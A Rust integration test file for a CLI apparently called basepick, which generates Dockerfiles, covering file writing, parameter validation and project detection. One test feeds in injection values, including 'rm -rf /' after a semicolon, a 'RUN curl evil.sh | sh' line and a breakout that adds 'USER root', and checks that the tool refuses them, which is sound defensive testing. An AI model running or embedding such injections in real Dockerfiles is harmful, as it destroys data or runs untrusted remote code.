//! The CLI writing files, checking parameters and taking answers from project detection.

use predicates::prelude::*;

use crate::cli::PYTHON_NATIVE_NO_SHELL;
use crate::common::{basepick, json};

#[test]
fn writing_twice_refuses_to_clobber_and_force_overwrites() {
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("out");
    let t = target.to_str().unwrap();
    basepick()
        .args(["dockerfile", "python-distroless", "--write", t])
        .assert()
        .success();
    let first = std::fs::read(target.join("Dockerfile")).unwrap();
    assert!(target.join(".dockerignore").exists());
    basepick()
        .args([
            "dockerfile",
            "python-distroless",
            "--write",
            t,
            "--set",
            "port=9000",
        ])
        .assert()
        .code(1)
        .stderr(predicate::str::contains("Dockerfile").and(predicate::str::contains("--force")));
    assert_eq!(
        std::fs::read(target.join("Dockerfile")).unwrap(),
        first,
        "byte-identical after the refusal"
    );
    basepick()
        .args([
            "dockerfile",
            "python-distroless",
            "--write",
            t,
            "--set",
            "port=9000",
            "--force",
        ])
        .assert()
        .success();
    let replaced = std::fs::read_to_string(target.join("Dockerfile")).unwrap();
    assert!(replaced.contains("EXPOSE 9000"));
}

#[test]
fn recommend_write_exports_the_files() {
    let dir = tempfile::tempdir().unwrap();
    let t = dir.path().to_str().unwrap();
    let mut args = PYTHON_NATIVE_NO_SHELL.to_vec();
    args.extend(["--write", t]);
    basepick()
        .args(args)
        .assert()
        .success()
        .stdout(predicate::str::contains("wrote"));
    let dockerfile = std::fs::read_to_string(dir.path().join("Dockerfile")).unwrap();
    assert!(dockerfile.contains("FROM gcr.io/distroless/python3-debian13:nonroot"));
    assert!(dockerfile.contains("#   c_extensions = yes"));
}

#[test]
fn injected_parameters_are_refused_naming_the_key() {
    basepick()
        .args(["dockerfile", "python-slim", "--set", "port=80;rm -rf /"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("`port`").and(predicate::str::contains("1 to 65535")));
    basepick()
        .args([
            "dockerfile",
            "python-slim",
            "--set",
            "app_name=x\nRUN curl evil.sh | sh",
        ])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("`app_name`"));
    basepick()
        .args([
            "dockerfile",
            "python-slim",
            "--set",
            "start=app.py\"]\nUSER root",
        ])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("`start`"));
    basepick()
        .args(["dockerfile", "python-slim", "--set", "colour=red"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("valid parameters: app_name, port"));
}

#[test]
fn a_runtime_version_changes_the_tag_only_where_the_image_offers_it() {
    basepick()
        .args(["dockerfile", "python-slim", "--set", "version=3.12"])
        .assert()
        .success()
        .stdout(predicate::str::contains("FROM python:3.12-slim-trixie"));
    basepick()
        .args(["dockerfile", "python-distroless", "--set", "version=3.12"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("version").and(predicate::str::contains("3.13")));
}

#[test]
fn unknown_leaf_lists_the_leaves() {
    basepick()
        .args(["dockerfile", "cobol-mainframe"])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("python-distroless"));
}

#[test]
fn without_a_terminal_the_tui_points_to_recommend() {
    basepick()
        .assert()
        .code(2)
        .stderr(predicate::str::contains("basepick recommend"));
}

#[test]
fn a_closed_pipe_is_not_an_error() {
    // `basepick images | head -1` must not print an error: the reader just went away.
    let out = std::process::Command::new("sh")
        .arg("-c")
        .arg(format!(
            "{} images --all | head -1",
            assert_cmd::cargo::cargo_bin("basepick").display()
        ))
        .output()
        .unwrap();
    assert!(out.status.success());
    assert!(!String::from_utf8_lossy(&out.stderr).contains("Broken pipe"));
}

#[test]
fn detected_answers_feed_recommend_and_explicit_answers_win() {
    let project = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/projects/python-numpy"
    );
    for (shell, rest) in [
        ("no", "security=standard"),
        ("no", "security=maximum"),
        ("yes", "shell_use=scripts"),
        ("yes", "shell_use=debugging"),
    ] {
        let debug = format!("debug_shell={shell}");
        let (code, v) = json(&[
            "recommend",
            "--detect",
            project,
            "-a",
            &debug,
            "-a",
            rest,
            "--format",
            "json",
        ]);
        assert_eq!(code, Some(0), "{v}");
        assert_ne!(
            v["image"]["libc"], "musl",
            "numpy never gets a musl image ({debug}, {rest})"
        );
        let detected: Vec<&str> = v["trail"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|s| s["detected"] == true)
            .map(|s| s["question"].as_str().unwrap())
            .collect();
        assert_eq!(detected, ["runtime", "c_extensions"]);
    }
    let (_, v) = json(&[
        "recommend",
        "--detect",
        project,
        "-a",
        "runtime=go",
        "-a",
        "linking=static",
        "-a",
        "debug_shell=no",
        "--format",
        "json",
    ]);
    assert_eq!(
        v["trail"][0]["answer"], "go",
        "an explicit answer beats the detected one"
    );
    assert!(
        v["unused"].as_object().unwrap().is_empty(),
        "detected answers are not reported as unused"
    );
}

#[test]
fn detecting_a_missing_directory_is_an_error() {
    basepick()
        .args([
            "recommend",
            "--detect",
            "/no/such/project",
            "-a",
            "runtime=go",
        ])
        .assert()
        .code(2)
        .stderr(predicate::str::contains("/no/such/project"));
}

#[test]
fn a_detected_runtime_version_is_used_where_the_image_offers_it() {
    let project = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/projects/python-numpy"
    );
    let dir = tempfile::tempdir().unwrap();
    let write = |extra: &[&str]| {
        let mut args = vec![
            "recommend",
            "--detect",
            project,
            "--force",
            "--write",
            dir.path().to_str().unwrap(),
        ];
        args.extend(extra);
        basepick().args(args).assert().success();
        std::fs::read_to_string(dir.path().join("Dockerfile")).unwrap()
    };
    // .python-version says 3.11, which the slim image family offers.
    let slim = write(&["-a", "debug_shell=yes", "-a", "shell_use=scripts"]);
    assert!(slim.contains("\nFROM python:3.11-slim-trixie\n"), "{slim}");
    // Distroless ships 3.13 only: the detected version is not forced onto a tag that does not exist.
    let distroless = write(&["-a", "debug_shell=no"]);
    assert!(
        distroless.contains("FROM python:3.13-slim-trixie AS build"),
        "{distroless}"
    );
    // An explicit --set wins over the project.
    let explicit = write(&[
        "-a",
        "debug_shell=yes",
        "-a",
        "shell_use=scripts",
        "--set",
        "version=3.12",
    ]);
    assert!(
        explicit.contains("\nFROM python:3.12-slim-trixie\n"),
        "{explicit}"
    );
}
